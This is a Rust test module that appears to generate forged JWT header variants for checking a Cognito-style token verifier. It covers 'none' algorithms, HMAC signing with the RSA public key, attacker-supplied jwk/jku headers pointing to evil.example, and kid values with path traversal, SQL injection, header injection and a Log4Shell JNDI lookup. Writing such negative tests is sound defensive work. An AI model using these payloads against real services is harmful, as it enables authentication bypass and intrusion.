//! Headers of tokens.

use palisade_cognito_stand_in::{KeyPair, RsaAlgorithm, Signature, TestKey, TokenUse};
use serde_json::{Value, json};

use super::{Variant, named};
use crate::suite::Suite;

pub(super) fn none(suite: &Suite, token_use: TokenUse) -> Vec<Variant> {
    let mut variants = Vec::new();
    for alg in [
        "none", "None", "NONE", "nOnE", "none ", " none", "none\0", "",
    ] {
        let token = suite.token(token_use).header("alg", alg);
        variants.push(named(format!("{alg:?}, signed"), token.clone()));
        let empty = token.clone().signature(Signature::Bytes(Vec::new()));
        variants.push(named(format!("{alg:?}, without signature"), empty));
        let junk = token.signature(Signature::Bytes(vec![0; 256]));
        variants.push(named(format!("{alg:?}, with zeros"), junk));
    }
    variants
}

pub(super) fn algorithms(suite: &Suite, token_use: TokenUse) -> Vec<Variant> {
    let mut variants = Vec::new();
    let values = [
        json!(null),
        json!(["RS256"]),
        json!(256),
        json!({"RS256": true}),
        json!(true),
        json!("rs256"),
        json!("Rs256"),
        json!("RS256 "),
        json!(" RS256"),
        json!("RS256\0"),
        json!("RS256\n"),
        json!("RЅ256"),
        json!("ＲS256"),
        json!("RS-256"),
        json!("RS2560"),
        json!("RS25"),
        json!("RS384"),
        json!("RS512"),
        json!("PS256"),
        json!("HS256"),
        json!("HS384"),
        json!("HS512"),
        json!("ES256"),
        json!("ES256K"),
        json!("EdDSA"),
        json!("Ed25519"),
        json!("RSA-OAEP"),
        json!("RSA1_5"),
        json!("dir"),
        json!("RS1"),
        json!("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"),
    ];
    for alg in values {
        variants.push(named(
            &alg,
            suite.token(token_use).header("alg", alg.clone()),
        ));
    }
    variants.push(named(
        "absent",
        suite.token(token_use).without_header("alg"),
    ));
    for name in ["Alg", "ALG", "alg ", "\u{feff}alg"] {
        let token = suite
            .token(token_use)
            .without_header("alg")
            .header(name, "RS256");
        variants.push(named(name, token));
    }
    let key = suite.stand_in.key(token_use);
    for (alg, algorithm) in [
        ("RS384", RsaAlgorithm::Rs384),
        ("RS512", RsaAlgorithm::Rs512),
        ("PS256", RsaAlgorithm::Ps256),
    ] {
        let signature = Signature::Rsa(algorithm, key.clone());
        let token = suite.token(token_use).signature(signature);
        variants.push(named(format!("{alg} under RS256"), token.clone()));
        variants.push(named(format!("{alg}, signed so"), token.header("alg", alg)));
    }
    variants
}

pub(super) fn hmac(suite: &Suite, token_use: TokenUse) -> Vec<Variant> {
    let key = suite.stand_in.key(token_use);
    let jwk = key.jwk();
    let text = |value: &Value| value.as_str().unwrap_or_default().as_bytes().to_vec();
    let secrets = [
        ("the modulus", key.modulus()),
        ("n", text(&jwk["n"])),
        ("e", text(&jwk["e"])),
        ("the JWK", jwk.to_string().into_bytes()),
        (
            "the key set",
            suite.stand_in.jwks().to_string().into_bytes(),
        ),
        ("the key id", key.key_id().as_bytes().to_vec()),
        ("DER", der(&key.modulus())),
        ("PEM", pem(&der(&key.modulus()), "\n")),
        ("PEM without an end", pem(&der(&key.modulus()), "")),
        ("nothing", Vec::new()),
        ("NUL", vec![0]),
        ("the client", b"site".to_vec()),
    ];
    let mut variants = Vec::new();
    for (name, secret) in secrets {
        for alg in ["HS256", "RS256", "hs256"] {
            let token = suite.token(token_use).header("alg", alg);
            let token = token.signature(Signature::Hmac(secret.clone()));
            variants.push(named(format!("{alg} with {name}"), token));
        }
    }
    variants
}

/// SubjectPublicKeyInfo of an RSA key of 2,048 bits with the exponent 65,537.
fn der(modulus: &[u8]) -> Vec<u8> {
    let start = [
        0x30, 0x82, 0x01, 0x22, 0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01,
        0x01, 0x01, 0x05, 0x00, 0x03, 0x82, 0x01, 0x0f, 0x00, 0x30, 0x82, 0x01, 0x0a, 0x02, 0x82,
        0x01, 0x01, 0x00,
    ];
    [&start[..], modulus, &[2, 3, 1, 0, 1]].concat()
}

fn pem(der: &[u8], end: &str) -> Vec<u8> {
    use base64::Engine;
    let text = base64::engine::general_purpose::STANDARD.encode(der);
    let lines: Vec<&str> = (0..text.len().div_ceil(64))
        .map(|n| &text[n * 64..text.len().min(n * 64 + 64)])
        .collect();
    let lines = lines.join("\n");
    format!("-----BEGIN PUBLIC KEY-----\n{lines}\n-----END PUBLIC KEY-----{end}").into_bytes()
}

pub(super) fn critical(suite: &Suite, token_use: TokenUse) -> Vec<Variant> {
    let mut variants = Vec::new();
    for crit in [
        json!(["x"]),
        json!([]),
        json!(["b64"]),
        json!(["exp"]),
        json!(["alg"]),
        json!(["kid", "kid"]),
        json!("x"),
        json!(null),
        json!(1),
        json!({}),
        json!([1]),
        json!([""]),
        json!(true),
    ] {
        let token = suite.token(token_use).header("crit", crit.clone());
        variants.push(named(format!("crit {crit}"), token.clone()));
        variants.push(named(format!("crit {crit} with x"), token.header("x", 1)));
    }
    for b64 in [
        json!(false),
        json!(true),
        json!("false"),
        json!(null),
        json!(0),
    ] {
        let token = suite.token(token_use).header("b64", b64.clone());
        variants.push(named(format!("b64 {b64}"), token.clone()));
        variants.push(named(
            format!("b64 {b64}, critical"),
            token.header("crit", json!(["b64"])),
        ));
    }
    for zip in [json!("DEF"), json!("GZ"), json!(""), json!(null)] {
        variants.push(named(
            format!("zip {zip}"),
            suite.token(token_use).header("zip", zip.clone()),
        ));
    }
    variants
}

pub(super) fn own_keys(suite: &Suite, token_use: TokenUse) -> Vec<Variant> {
    let kid = suite.stand_in.key(token_use).key_id().to_owned();
    let attacker = KeyPair::test(TestKey::OtherPool).expect("the key is whole");
    let address = suite.stand_in.endpoints().login;
    let jwk = attacker.jwk();
    let mut variants = Vec::new();
    for (name, value) in [
        ("jwk", jwk.clone()),
        ("jwk", json!(null)),
        ("jku", json!(address)),
        ("jku", json!("https://evil.example/jwks.json")),
        ("x5u", json!(address)),
        ("x5c", json!(["MIIB"])),
        ("x5c", json!([])),
        ("x5t", json!("dGh1bWI")),
        ("x5t#S256", json!("dGh1bWI")),
    ] {
        let token = suite.token(token_use).header(name, value.clone());
        for kid in [kid.as_str(), attacker.key_id(), "attacker"] {
            let key = attacker.clone().kid(kid);
            variants.push(named(
                format!("{name} {value:.9} under {kid:.8}"),
                token.clone().signed_by(key),
            ));
        }
        if !name.starts_with("x5t") {
            variants.push(named(
                format!("{name} {value:.9} beside the right key"),
                token,
            ));
        }
    }
    variants
}

pub(super) fn types(suite: &Suite, token_use: TokenUse) -> Vec<Variant> {
    let values = [
        json!("JWE"),
        json!("JOSE"),
        json!("JOSE+JSON"),
        json!("dpop+jwt"),
        json!("logout+jwt"),
        json!(""),
        json!("JWT "),
        json!(null),
        json!(1),
        json!(["JWT"]),
        json!("secevent+jwt"),
    ];
    let typed = |value: Value| named(&value, suite.token(token_use).header("typ", value.clone()));
    values.into_iter().map(typed).collect()
}

pub(super) fn key_ids(suite: &Suite, token_use: TokenUse) -> Vec<Variant> {
    let kid = suite.stand_in.key(token_use).key_id().to_owned();
    let swapped: String = kid
        .chars()
        .map(|c| {
            if c.is_ascii_lowercase() {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect();
    let endpoints = suite.stand_in.endpoints();
    let values = [
        json!(null),
        json!(0),
        json!(1),
        json!(true),
        json!([kid.as_str()]),
        json!({}),
        json!(""),
        json!(swapped),
        json!(format!("{kid} ")),
        json!(format!(" {kid}")),
        json!(format!("{kid}\0")),
        json!(format!("{kid}\n")),
        json!(kid.trim_end_matches('=')),
        json!(format!("{kid}=")),
        json!(kid.replace('+', "-").replace('/', "_")),
        json!(kid.replace('+', " ")),
        json!(&kid[..8]),
        json!(format!("{kid}{kid}")),
        json!("../../../../dev/null"),
        json!("/proc/self/environ"),
        json!("..\\..\\windows"),
        json!(endpoints.jwks),
        json!("https://evil.example/"),
        json!("' OR '1'='1"),
        json!("\r\nX-Injected: 1"),
        json!("x".repeat(128)),
        json!("x".repeat(129)),
        json!("x".repeat(8_192)),
        json!("é"),
        json!("__proto__"),
        json!("constructor"),
        json!("${jndi:ldap://evil.example}"),
        json!("*"),
    ];
    let mut variants = vec![named(
        "absent",
        suite.token(token_use).without_header("kid"),
    )];
    for name in ["Kid", "KID"] {
        let token = suite.token(token_use).without_header("kid");
        variants.push(named(name, token.header(name, kid.as_str())));
    }
    for value in values {
        let name: String = value.to_string().chars().take(40).collect();
        variants.push(named(name, suite.token(token_use).header("kid", value)));
    }
    variants
}
